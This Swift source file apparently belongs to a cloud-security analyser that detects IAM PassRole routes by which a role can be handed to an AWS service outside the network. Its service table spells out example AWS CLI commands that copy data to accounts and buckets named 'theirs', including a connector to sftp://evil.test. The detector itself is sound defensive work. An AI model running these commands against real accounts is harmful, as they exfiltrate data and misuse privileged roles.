import CordonModel
import CordonPolicy

/// A role of ours, handed to a service that works outside the network.
struct PassedRoleRoute: Route {
  let name = "passed-role"
  let path = EgressPath.crossAccountCopy
  let title = "a role of ours is handed to a service that uses it outside the network"
  let documentation = RouteDocumentation(
    """
    Whoever may pass a role and start a service that it trusts has the role's rights where no endpoint stands: in a function, \
    a job or an instance in a network of the service's. IAM asks iam:PassRole for the role and iam:PassedToService for the \
    service (IAM User Guide, id_roles_use_passrole); the service asks the role's trust policy.
    """,
    closedBy: [
      "no Allow of iam:PassRole, or one with iam:PassedToService that names SageMaker alone",
      "a trust policy that names no such service", "no Allow of the calls that start it",
    ],
    notClosedBy: [
      "endpoint policies: the service is not in the network", "a short list of roles: one is enough",
    ])

  func judge(_ scene: Scene) -> Judgement {
    let trusts = TrustedServices(scene.estate)
    var judgement = Judgement()
    for holder in scene.roles {
      // Most roles may hand on none; with thousands of them the lists below are long.
      if let refused = refusal(holder, scene) {
        judgement.add(refused)
        continue
      }
      for (service, roles) in trusts.byService where service != "sagemaker.amazonaws.com" {
        ask(holder, service, roles, scene, &judgement)
      }
      guard !trusts.roles.isEmpty else { continue }
      let others = trusts.byService.map(\.service)
      let question = Self.passing(holder, trusts.roles, scene, ("StringNotEquals", others))
      if case .none = scene.prover.ask(question) { continue }
      judgement.lose(
        "\(holder.resource.id) may hand a role to any service: only the role's trust holds", holder.resource)
    }
    judgement.addUnseenRoles(scene)
    if judgement.doors.isEmpty {
      judgement.add(
        .closed("roles", HeldControl(absence: "no role of the files trusts a service that works elsewhere")))
    }
    return judgement
  }

  /// The door where the role may hand on no role at all, to no service; nil where it may.
  private func refusal(_ holder: HeldRole, _ scene: Scene) -> Door? {
    let question = RequestQuestion(
      layers: holder.layers(scene), callers: scene.estate.callers(.own(holder)), actions: ["iam:PassRole"],
      demands: .of(.own(holder), .anywhere, .own, scene.estate), resourceAccount: scene.estate.account)
    let door = scene.door("\(holder.resource.id)", question, at: holder.resource) { witness in
      RouteWitness(
        CommandLineCall(witness.request).text(), story: "", fix: "", at: holder.resource,
        request: witness.request.members)
    }
    return door.isClosed ? door : nil
  }

  private func ask(
    _ holder: HeldRole, _ service: String, _ roles: [String], _ scene: Scene, _ judgement: inout Judgement
  ) {
    let name = "\(holder.resource.id) to \(service)"
    let known = ServiceStart.known[service]
    let prefix = String(service.prefix { $0 != "." })
    let pass = scene.door(
      name, Self.passing(holder, roles, scene, ("StringEquals", [service])), at: holder.resource
    ) { witness in
      let role = witness.request.resource
      return RouteWitness(
        known?.line(role) ?? CommandLineCall(witness.request).text(),
        story:
          "Whoever holds \(holder.resource.id) hands \(role) to \(service), which uses it outside the network.",
        fix: "ask for iam:PassedToService sagemaker.amazonaws.com where \(holder.resource.id) may pass roles",
        at: holder.resource, request: witness.request.members)
    }
    if case .closed = pass.finding { return judgement.add(pass) }
    let estate = scene.estate
    let starting = RequestQuestion(
      layers: holder.layers(scene), callers: estate.callers(.own(holder)),
      actions: known?.actions ?? ["\(prefix):*"], demands: .of(.own(holder), .anywhere, .own, estate),
      resourceAccount: estate.account)
    let start = scene.door(name, starting, at: holder.resource) { witness in
      RouteWitness(
        CommandLineCall(witness.request).text(), story: "", fix: "", at: holder.resource,
        request: witness.request.members)
    }
    if case .open = start.finding, known == nil {
      judgement.add(
        .unknown(name, "what \(service) does with a role that it is handed is not modelled", holder.resource))
    } else if case .open = start.finding {
      judgement.add(pass)
    } else {
      if start.isClosed {
        judgement.lose(
          "\(holder.resource.id) may hand a role to \(service): only that it may not start it holds",
          holder.resource)
      }
      judgement.add(start)
    }
  }

  private static func passing(
    _ holder: HeldRole, _ roles: [String], _ scene: Scene, _ service: (operation: String, names: [String])
  ) -> RequestQuestion {
    let estate = scene.estate
    var demands = KeyDemands.of(.own(holder), .anywhere, .own, estate)
    demands.require("iam:PassedToService", service.operation, service.names)
    return RequestQuestion(
      layers: holder.layers(scene), callers: estate.callers(.own(holder)), actions: ["iam:PassRole"],
      resources: roles, demands: demands, resourceAccount: estate.account)
  }
}

/// Which services the roles of the files trust.
struct TrustedServices {
  /// The services with the ARNs of the roles that trust them.
  let byService: [(service: String, roles: [String])]
  /// Every role that trusts a service.
  let roles: [String]

  init(_ estate: CloudEstate) {
    var found: [String: [String]] = [:]
    for role in estate.all("AWS::IAM::Role") {
      guard let trust = role["AssumeRolePolicyDocument"] else { continue }
      let reading = estate.policy(trust, of: role, named: "trust", namesPrincipals: true)
      for statement in reading.widest.statements where statement.effect == .allow {
        for case .service(let name) in statement.principal?.entries ?? [] {
          let plain = name.hasSuffix(".cn") ? String(name.dropLast(3)) : name
          found[plain, default: []].append(estate.arn(role))
        }
      }
    }
    byService = found.sorted { $0.key < $1.key }.map { ($0.key, unique($0.value)) }
    roles = unique(byService.flatMap(\.roles))
  }
}

/// How a service is started with a role, and what that takes.
struct ServiceStart: Sendable {
  /// The calls that start it or give it another role.
  let actions: [String]
  /// The line that starts it; ROLE stands for the role.
  private let command: String

  private init(_ actions: [String], _ command: String) {
    self.actions = actions
    self.command = command
  }

  /// The line that hands it `role`.
  func line(_ role: String) -> String { command.replacing("ROLE", with: role) }

  /// Services that run what their caller wrote, or carry what he says, where none of our endpoints stands.
  static let known: [String: ServiceStart] = [
    "lambda.amazonaws.com": ServiceStart(
      ["lambda:CreateFunction", "lambda:UpdateFunctionConfiguration"],
      "aws lambda create-function --function-name out --runtime python3.13 --handler out.main --role ROLE --zip-file fileb://out.zip"
    ),
    "ec2.amazonaws.com": ServiceStart(
      ["ec2:RunInstances", "ec2:AssociateIamInstanceProfile", "ec2:ReplaceIamInstanceProfileAssociation"],
      "aws ec2 run-instances --image-id resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64 --iam-instance-profile Name=$(basename ROLE) --user-data file://out.sh"
    ),
    "ecs-tasks.amazonaws.com": ServiceStart(
      ["ecs:RegisterTaskDefinition", "ecs:RunTask", "ecs:StartTask"],
      "aws ecs register-task-definition --family out --task-role-arn ROLE --container-definitions file://containers.json"
    ),
    "glue.amazonaws.com": ServiceStart(
      [
        "glue:CreateJob", "glue:UpdateJob", "glue:CreateSession", "glue:CreateDevEndpoint",
        "glue:CreateCrawler",
      ],
      "aws glue create-session --id out --role ROLE --command Name=glueetl,PythonVersion=3"),
    "codebuild.amazonaws.com": ServiceStart(
      ["codebuild:CreateProject", "codebuild:UpdateProject"],
      "aws codebuild create-project --name out --service-role ROLE --cli-input-json file://project.json"),
    "cloudformation.amazonaws.com": ServiceStart(
      ["cloudformation:CreateStack", "cloudformation:UpdateStack", "cloudformation:CreateChangeSet"],
      "aws cloudformation create-stack --stack-name out --template-body file://out.yaml --role-arn ROLE"),
    "states.amazonaws.com": ServiceStart(
      ["states:CreateStateMachine", "states:UpdateStateMachine"],
      "aws stepfunctions create-state-machine --name out --role-arn ROLE --definition file://out.json"),
    "events.amazonaws.com": ServiceStart(
      ["events:PutTargets"],
      "aws events put-targets --rule out --targets Id=1,Arn=arn:aws:sqs:us-east-1:999988887777:theirs,RoleArn=ROLE"
    ),
    "scheduler.amazonaws.com": ServiceStart(
      ["scheduler:CreateSchedule", "scheduler:UpdateSchedule"],
      "aws scheduler create-schedule --name out --schedule-expression 'rate(1 minute)' --flexible-time-window Mode=OFF --target Arn=arn:aws:sqs:us-east-1:999988887777:theirs,RoleArn=ROLE"
    ),
    "pipes.amazonaws.com": ServiceStart(
      ["pipes:CreatePipe", "pipes:UpdatePipe"],
      "aws pipes create-pipe --name out --role-arn ROLE --source arn:aws:sqs:us-east-1:111122223333:ours --target arn:aws:sqs:us-east-1:999988887777:theirs"
    ),
    "firehose.amazonaws.com": ServiceStart(
      ["firehose:CreateDeliveryStream", "firehose:UpdateDestination"],
      "aws firehose create-delivery-stream --delivery-stream-name out --extended-s3-destination-configuration RoleARN=ROLE,BucketARN=arn:aws:s3:::theirs"
    ),
    "s3.amazonaws.com": ServiceStart(
      ["s3:PutReplicationConfiguration"],
      "aws s3api put-bucket-replication --bucket ours --replication-configuration file://replication.json"),
    "batchoperations.s3.amazonaws.com": ServiceStart(
      ["s3:CreateJob"],
      "aws s3control create-job --account-id 111122223333 --role-arn ROLE --cli-input-json file://copy.json"),
    "datasync.amazonaws.com": ServiceStart(
      ["datasync:CreateLocationS3", "datasync:CreateTask", "datasync:StartTaskExecution"],
      "aws datasync create-location-s3 --s3-bucket-arn arn:aws:s3:::theirs --s3-config BucketAccessRoleArn=ROLE"
    ),
    "dms.amazonaws.com": ServiceStart(
      ["dms:CreateEndpoint", "dms:ModifyEndpoint"],
      "aws dms create-endpoint --endpoint-identifier out --endpoint-type target --engine-name s3 --s3-settings ServiceAccessRoleArn=ROLE,BucketName=theirs"
    ),
    "transfer.amazonaws.com": ServiceStart(
      ["transfer:CreateUser", "transfer:CreateConnector", "transfer:CreateServer"],
      "aws transfer create-connector --url sftp://evil.test --access-role ROLE"),
    "bedrock.amazonaws.com": ServiceStart(
      [
        "bedrock:CreateModelInvocationJob", "bedrock:CreateModelCustomizationJob",
        "bedrock:CreateEvaluationJob", "bedrock:CreateModelImportJob",
      ],
      "aws bedrock create-model-invocation-job --job-name out --role-arn ROLE --model-id amazon.nova-micro-v1:0 --input-data-config 's3InputDataConfig={s3Uri=s3://ours/}' --output-data-config 's3OutputDataConfig={s3Uri=s3://theirs/}'"
    ),
    "elasticmapreduce.amazonaws.com": ServiceStart(
      ["elasticmapreduce:RunJobFlow"],
      "aws emr create-cluster --name out --release-label emr-7.5.0 --service-role ROLE --instance-type m5.xlarge --instance-count 1"
    ),
    "emr-serverless.amazonaws.com": ServiceStart(
      ["emr-serverless:StartJobRun"],
      "aws emr-serverless start-job-run --application-id 00example --execution-role-arn ROLE --job-driver 'sparkSubmit={entryPoint=s3://ours/out.py}'"
    ),
    "ssm.amazonaws.com": ServiceStart(
      ["ssm:StartAutomationExecution", "ssm:CreateAssociation", "ssm:SendCommand"],
      "aws ssm start-automation-execution --document-name AWS-RunPacker --parameters AutomationAssumeRole=ROLE"
    ),
    "kinesisanalytics.amazonaws.com": ServiceStart(
      ["kinesisanalytics:CreateApplication", "kinesisanalytics:UpdateApplication"],
      "aws kinesisanalyticsv2 create-application --application-name out --runtime-environment FLINK-1_20 --service-execution-role ROLE"
    ),
    "codepipeline.amazonaws.com": ServiceStart(
      ["codepipeline:CreatePipeline", "codepipeline:UpdatePipeline"],
      "aws codepipeline create-pipeline --pipeline file://pipeline.json"),
    "backup.amazonaws.com": ServiceStart(
      ["backup:StartCopyJob", "backup:CreateBackupPlan"],
      "aws backup start-copy-job --iam-role-arn ROLE --source-backup-vault-name ours --recovery-point-arn arn:aws:backup:us-east-1:111122223333:recovery-point:1 --destination-backup-vault-arn arn:aws:backup:us-east-1:999988887777:backup-vault:theirs"
    ),
  ]
}
